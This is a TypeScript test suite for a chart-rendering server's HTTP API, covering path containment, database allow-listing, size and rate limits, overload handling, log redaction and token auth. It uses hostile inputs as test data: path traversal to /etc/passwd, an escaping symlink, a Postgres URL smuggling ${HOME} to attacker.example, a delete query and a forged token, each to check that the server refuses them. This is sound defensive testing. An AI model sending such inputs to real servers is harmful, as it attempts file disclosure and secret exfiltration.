import { symlinkSync } from 'node:fs';
import { Writable } from 'node:stream';
import pg from 'pg';
import { describe, expect, it } from 'vitest';
import { createEngine, type Engine } from '../../src/engine.js';
import { createServer } from '../../src/server/app.js';
import { loadServerConfig } from '../../src/server/config.js';
import { tempDir } from '../helpers/tmp.js';
import { testRenderers } from '../pool/helpers.js';
import { barChart, errorOf, inlineReport, startServer } from './helpers.js';

const tmp = tempDir();
const outside = tempDir();
tmp.write('data/sales.csv', 'region,amount\nEU,10\nUS,20\n');
outside.write('secret.csv', 'region,amount\nTOP,999\n');
symlinkSync(`${outside.dir}/secret.csv`, `${tmp.dir}/data/link.csv`);
const token = 'a-long-test-token-0123456789';
tmp.write('tokens.txt', `# tokens\n${token}\n`);

const pgUrl = 'postgres://postgres@127.0.0.1:5432/test';
tmp.write(
  'server.yaml',
  `connections:\n  shop: { source: postgres, url: "${pgUrl}" }\nlimits: { bodyBytes: 20000, inlineRows: 50, charts: 3 }\n`,
);
const server = await startServer({ root: tmp.dir, cacheDir: false, config: `${tmp.dir}/server.yaml` });

/** A report reading one dataset, given as the dataset's fields. */
const reading = (dataset: Record<string, unknown>) => ({
  ...inlineReport(),
  datasets: { sales: dataset },
});

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

describe('chartpress serve: files only under the root', () => {
  it.each([
    ['a relative path out of the root', { source: 'csv', path: '../../../../etc/passwd' }],
    ['an absolute path', { source: 'csv', path: `${outside.dir}/secret.csv` }],
    ['a symlink out of the root', { source: 'csv', path: 'data/link.csv' }],
    ['a SQLite file out of the root', { source: 'sqlite', path: '/etc/hostname', table: 't' }],
  ])('refuses %s with a coded 400 that names no server path', async (_, dataset) => {
    const e = await errorOf(await server.call('/v1/render', { json: reading(dataset) }));
    expect([e.status, e.code]).toEqual([400, 'CP_ERR_PATH_DENIED']);
    expect(e.text).not.toContain(tmp.dir);
    expect(e.text).not.toContain(outside.dir);
    expect(e.text).not.toMatch(/\bat .*\.(ts|js):\d+/);
  });

  it('a chart whose file is missing fails alone, and its placeholder names no server path', async () => {
    const res = await server.call('/v1/render?format=html', {
      json: reading({ source: 'csv', path: 'data/missing.csv' }),
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('x-chartpress-failed')).toBe('byRegion');
    const html = await res.text();
    expect(html).toContain('CP_ERR_FILE_NOT_FOUND');
    expect(html).not.toContain(tmp.dir);
  });

  it('reads a file under the root', async () => {
    const res = await server.call('/v1/data', { json: reading({ source: 'csv', path: 'data/sales.csv' }) });
    expect(res.status).toBe(200);
  });
});

describe('chartpress serve: databases only by the names in the config', () => {
  it('refuses a database URL in a request, even one the server could reach', async () => {
    const e = await errorOf(
      await server.call('/v1/render', { json: reading({ source: 'postgres', url: pgUrl, table: 'x' }) }),
    );
    expect([e.status, e.code]).toEqual([400, 'CP_ERR_CONNECTION_DENIED']);
    expect(e.text).toContain('"path":"datasets.sales.url"');
  });

  it('refuses an environment variable smuggled into a URL', async () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is the literal ${...}.
    const url = 'postgres://${HOME}@attacker.example/db';
    const e = await errorOf(await server.call('/v1/render', { json: reading({ source: 'postgres', url }) }));
    expect(e.code).toBe('CP_ERR_CONNECTION_DENIED');
  });

  it('refuses a connection the server does not have', async () => {
    const e = await errorOf(
      await server.call('/v1/render', { json: reading({ connection: 'toString', table: 'x' }) }),
    );
    expect([e.status, e.code]).toEqual([400, 'CP_ERR_CONNECTION_DENIED']);
  });

  it('reads a named connection, read-only', async () => {
    const client = new pg.Client(pgUrl);
    await client.connect();
    try {
      await client.query('create table if not exists serve_sales (region text, amount real)');
      await client.query('truncate serve_sales');
      await client.query("insert into serve_sales values ('EU', 1), ('EU', 2), ('US', 5)");
    } finally {
      await client.end();
    }
    const res = await server.call('/v1/data', {
      json: reading({ connection: 'shop', table: 'serve_sales' }),
    });
    expect(res.status).toBe(200);
    const body = (await res.json()) as { data: Record<string, unknown[]> };
    expect(body.data.byRegion).toEqual([
      { region: 'EU', total: 3 },
      { region: 'US', total: 5 },
    ]);
    const write = await server.call('/v1/data', {
      json: reading({ connection: 'shop', query: 'delete from serve_sales returning *' }),
    });
    expect((await errorOf(write)).code).toBe('CP_ERR_SQL_READ_ONLY');
  });
});

describe('chartpress serve: limits', () => {
  it('an oversized body is a 413', async () => {
    const rows = Array.from({ length: 40 }, (_, i) => ({ region: `R${i}`, amount: i, pad: 'x'.repeat(600) }));
    const e = await errorOf(await server.call('/v1/render', { json: reading({ source: 'inline', rows }) }));
    expect([e.status, e.code]).toEqual([413, 'CP_ERR_REQUEST_TOO_LARGE']);
  });

  it('too many inline rows, or too many charts, is a 413 with the path', async () => {
    const rows = Array.from({ length: 51 }, (_, i) => ({ region: 'EU', amount: i }));
    const many = await errorOf(
      await server.call('/v1/render', { json: reading({ source: 'inline', rows }) }),
    );
    expect([many.status, many.code]).toEqual([413, 'CP_ERR_REQUEST_TOO_LARGE']);
    const chartRows = await errorOf(
      await server.call('/v1/chart', { json: { chart: barChart(rows.map((r) => r.amount)) } }),
    );
    expect(chartRows.code).toBe('CP_ERR_REQUEST_TOO_LARGE');
    const chart = (inlineReport().charts as Record<string, unknown>).byRegion;
    const charts = Object.fromEntries(['a', 'b', 'c', 'd'].map((id) => [id, chart]));
    const e = await errorOf(await server.call('/v1/render', { json: { ...inlineReport(), charts } }));
    expect([e.status, e.code]).toEqual([413, 'CP_ERR_REQUEST_TOO_LARGE']);
    expect(e.text).toContain('"path":"charts"');
  });

  it('bad JSON is a 400; an invalid report a 422 with every problem and its path', async () => {
    const bad = await server.call('/v1/render', {
      method: 'POST',
      body: '{"title": ',
      headers: { 'content-type': 'application/json' },
    });
    const e = await errorOf(bad);
    expect([e.status, e.code]).toEqual([400, 'CP_ERR_PARSE']);
    const invalid = await server.call('/v1/render', {
      json: { ...inlineReport(), title: 5, charts: { c: { type: 'donut' } } },
    });
    const body = (await invalid.json()) as { problems: { code: string; path: string }[] };
    expect(invalid.status).toBe(422);
    expect(body.problems.length).toBeGreaterThanOrEqual(2);
    for (const p of body.problems) expect(p.path).toBeTruthy();
  });

  it('a client over the rate limit gets 429 with Retry-After; health checks are never limited', async () => {
    const limited = await startServer({ root: tmp.dir, cacheDir: false, limits: { rateLimit: 3 } });
    for (let i = 0; i < 3; i++) expect((await limited.call('/v1/schema')).status).toBe(200);
    const over = await limited.call('/v1/schema');
    expect(over.headers.get('retry-after')).toMatch(/^\d+$/);
    const e = await errorOf(over);
    expect([e.status, e.code]).toEqual([429, 'CP_ERR_RATE_LIMITED']);
    for (let i = 0; i < 5; i++) expect((await limited.call('/healthz')).status).toBe(200);
    // Without tokens, a made-up Authorization header is no way around the limit.
    const forged = await limited.call('/v1/schema', {
      headers: { authorization: `Bearer ${Math.random()}` },
    });
    expect(forged.status).toBe(429);
  });
});

/** An engine whose renders wait for `release` (a render under way, for as long as a test wants). */
function heldEngine(): { engine: Engine; release: () => void; started: Promise<void> } {
  const real = createEngine({ cache: false, pool: { threads: 1 } });
  let release = () => {};
  let began = () => {};
  const held = new Promise<void>((r) => {
    release = r;
  });
  const started = new Promise<void>((r) => {
    began = r;
  });
  const engine: Engine = {
    ...real,
    render: async (report, options) => {
      began();
      await held;
      return real.render(report, options);
    },
  };
  return { engine, release, started };
}

describe('chartpress serve: overload, deadlines and failures', () => {
  it('past its queue, a render is refused at once with 503 and Retry-After', async () => {
    const { engine, release, started } = heldEngine();
    const busy = await startServer({ root: tmp.dir, engine, limits: { concurrency: 1, queue: 1 } });
    const first = busy.call('/v1/render', { json: inlineReport() });
    await started;
    const second = busy.call('/v1/render', { json: inlineReport() });
    await sleep(50);
    const third = await busy.call('/v1/render', { json: inlineReport() });
    expect(third.headers.get('retry-after')).toBe('1');
    const e = await errorOf(third);
    expect([e.status, e.code]).toEqual([503, 'CP_ERR_OVERLOADED']);
    release();
    expect((await first).status).toBe(200);
    expect((await second).status).toBe(200);
    await engine.close();
  });

  it('a request past its deadline is a 504, and the server carries on', async () => {
    const { engine, release } = heldEngine();
    const slow = await startServer({ root: tmp.dir, engine, limits: { deadlineMs: 300 } });
    const e = await errorOf(await slow.call('/v1/render', { json: inlineReport() }));
    expect([e.status, e.code]).toEqual([504, 'CP_ERR_DEADLINE']);
    release();
    expect((await slow.call('/v1/render', { json: inlineReport() })).status).toBe(200);
    expect((await slow.call('/healthz')).status).toBe(200);
    await engine.close();
  });

  it('a hanging chart becomes a placeholder within the deadline; the document still comes', async () => {
    const engine = createEngine({
      cache: false,
      pool: { threads: 1, renderers: { bar: testRenderers } },
      files: { roots: [tmp.dir] },
    });
    const hanging = await startServer({ root: tmp.dir, engine, limits: { deadlineMs: 20_000 } });
    const report = inlineReport({
      charts: {
        stuck: {
          type: 'bar',
          title: 'hang',
          data: { from: 'sales' },
          encode: { x: 'region', y: 'amount' },
          options: { timeoutMs: 500 },
        },
        fine: { type: 'bar', title: 'Fine', data: { from: 'sales' }, encode: { x: 'region', y: 'amount' } },
      },
      body: [{ chart: 'stuck' }, { chart: 'fine' }],
    });
    const res = await hanging.call('/v1/render', { json: report });
    expect(res.status).toBe(200);
    expect(res.headers.get('x-chartpress-failed')).toBe('stuck');
    expect(
      Buffer.from(await res.arrayBuffer())
        .subarray(0, 5)
        .toString(),
    ).toBe('%PDF-');
    expect((await hanging.call('/readyz')).status).toBe(200);
    expect((await hanging.call('/v1/render', { json: inlineReport() })).status).toBe(200);
    await engine.close();
  });

  it('an engine failure is a 500 CP_ERR_INTERNAL that tells nothing of the server', async () => {
    const real = createEngine({ cache: false });
    const engine: Engine = {
      ...real,
      render: async () => {
        throw new Error(`ENOENT: open '${tmp.dir}/secret/config.json'`);
      },
    };
    const failing = await startServer({ root: tmp.dir, engine });
    const e = await errorOf(await failing.call('/v1/render', { json: inlineReport() }));
    expect([e.status, e.code]).toEqual([500, 'CP_ERR_INTERNAL']);
    expect(e.text).not.toContain('secret');
    expect(e.text).not.toContain(tmp.dir);
    await real.close();
  });
});

describe('chartpress serve: logs', () => {
  it('writes one JSON line per request, with its id, and never the token, the body or the query', async () => {
    const lines: string[] = [];
    const stream = new Writable({
      write(chunk, _encoding, done) {
        lines.push(...String(chunk).trim().split('\n'));
        done();
      },
    });
    const config = loadServerConfig({
      root: tmp.dir,
      cacheDir: false,
      tokenFile: `${tmp.dir}/tokens.txt`,
      port: 0,
    });
    const logged = await createServer({ config: { ...config, threads: 1 }, logger: { stream } });
    try {
      const url = await logged.listen();
      const auth = { authorization: `Bearer ${token}` };
      const c = encodeURIComponent(JSON.stringify(barChart([7, 8])));
      await fetch(`${url}/v1/chart?c=${c}`, { headers: { ...auth, 'x-request-id': 'req-42' } });
      await fetch(`${url}/v1/render`, {
        method: 'POST',
        headers: { ...auth, 'content-type': 'application/json' },
        body: JSON.stringify(inlineReport()),
      });
    } finally {
      await logged.close(1000);
    }
    const requests = lines.map((l) => JSON.parse(l)).filter((l) => l.msg === 'request');
    expect(requests).toEqual([
      expect.objectContaining({ reqId: 'req-42', method: 'GET', route: '/v1/chart', status: 200 }),
      expect.objectContaining({ method: 'POST', route: '/v1/render', status: 200 }),
    ]);
    const all = lines.join('\n');
    expect(all).not.toContain(token);
    expect(all).not.toContain('M1');
    expect(all).not.toContain('EU');
  });
});

describe('chartpress serve: bearer tokens', () => {
  it('asks for a token on /metrics too when the config says so', async () => {
    tmp.write('metrics.yaml', 'metricsToken: true\n');
    const locked = await startServer({
      root: tmp.dir,
      cacheDir: false,
      tokenFile: `${tmp.dir}/tokens.txt`,
      config: `${tmp.dir}/metrics.yaml`,
    });
    expect((await locked.call('/metrics')).status).toBe(401);
    expect((await locked.call('/metrics', { headers: { authorization: `Bearer ${token}` } })).status).toBe(
      200,
    );
  });

  it('asks every route but the health checks (and /metrics, unless configured) for a token', async () => {
    const locked = await startServer({ root: tmp.dir, cacheDir: false, tokenFile: `${tmp.dir}/tokens.txt` });
    const none = await errorOf(await locked.call('/v1/schema'));
    expect([none.status, none.code]).toEqual([401, 'CP_ERR_UNAUTHORIZED']);
    const wrong = await locked.call('/v1/schema', { headers: { authorization: `Bearer ${token}x` } });
    expect(wrong.status).toBe(401);
    const right = await locked.call('/v1/schema', { headers: { authorization: `Bearer ${token}` } });
    expect(right.status).toBe(200);
    for (const open of ['/healthz', '/readyz', '/metrics'])
      expect((await locked.call(open)).status).toBe(200);
  });
});
